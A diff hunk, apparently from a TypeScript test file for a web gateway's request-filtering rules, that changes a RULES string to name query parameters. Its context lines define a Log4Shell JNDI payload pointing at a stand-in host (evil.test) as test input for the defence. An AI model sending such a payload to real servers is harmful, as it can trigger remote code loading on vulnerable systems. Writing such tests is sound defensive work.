@@ -5,7 +5,7 @@ import { FILE, SCRIPT, searchFor, serveTestSite, SQL } from "./_attacks.ts";
 
 const HOST = "gate.example";
 const LOG4J = "${jndi:ldap://evil.test/a}";
-const RULES = "/search=enforce:q+filter,/free/*=off,/watched=monitor";
+const RULES = "/search=enforce:query.q+query.filter,/free/*=off,/watched=monitor";
 const asset = (dest: string) => ({ "sec-fetch-site": "same-origin", "sec-fetch-dest": dest });
 const page = (path: string, name: string, text: string) =>
   `http://${HOST}${path}?${name}=${encodeURIComponent(text)}`;
